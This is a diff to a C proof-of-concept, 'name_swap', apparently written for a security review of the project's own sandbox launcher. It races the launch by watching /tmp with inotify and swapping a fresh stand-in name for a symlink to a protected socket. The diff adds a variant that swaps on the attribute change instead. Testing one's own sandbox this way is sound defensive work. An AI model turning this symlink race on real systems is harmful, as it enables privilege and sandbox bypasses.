@@ -1,9 +1,13 @@
-/* name_swap DEST SECONDS: an attacker of the same account beside a sandbox's
+/* name_swap DEST SECONDS [attrib]: an attacker of the same account beside a sandbox's
  * launch (review r72 F1). Watches /tmp for a new ".sbx-cover-*" name (a
  * stand-in's fresh name, bound for a moment before its mount) and swaps it,
  * with RENAME_EXCHANGE, for a symlink of its own to DEST (the closed socket
  * itself): a launch that then mounted by name would put the daemon's own
- * socket over its closed name. Prints "tries N swapped M" at the end. */
+ * socket over its closed name. With "attrib" it swaps later, when the name's
+ * mode changes (the launch gives the mounted stand-in the closed socket's
+ * mode just before it unlinks the fresh name), and removes the name it took
+ * at once: the mount then showed a name not the stand-in's own (a nested
+ * launcher's 126). Prints "tries N swapped M" at the end. */
 #define _GNU_SOURCE
 #include <fcntl.h>
 #include <linux/fs.h>
@@ -21,9 +25,9 @@ int main(int argc, char **argv)
 {
     char link[64], buf[8192] __attribute__((aligned(8)));
     time_t end;
-    int in, tries = 0, swapped = 0;
-    if (argc != 3) {
-        fprintf(stderr, "usage: name_swap DEST SECONDS\n");
+    int in, tries = 0, swapped = 0, late = argc == 4 && strcmp(argv[3], "attrib") == 0;
+    if (argc != 3 && !late) {
+        fprintf(stderr, "usage: name_swap DEST SECONDS [attrib]\n");
         return 2;
     }
     end = time(NULL) + atoi(argv[2]);
@@ -32,7 +36,7 @@ int main(int argc, char **argv)
     if (symlink(argv[1], link) != 0)
         return perror("symlink"), 1;
     in = inotify_init1(IN_CLOEXEC);
-    if (in < 0 || inotify_add_watch(in, "/tmp", IN_CREATE) < 0)
+    if (in < 0 || inotify_add_watch(in, "/tmp", late ? IN_ATTRIB : IN_CREATE) < 0)
         return perror("inotify"), 1;
     printf("watching\n");
     fflush(stdout);
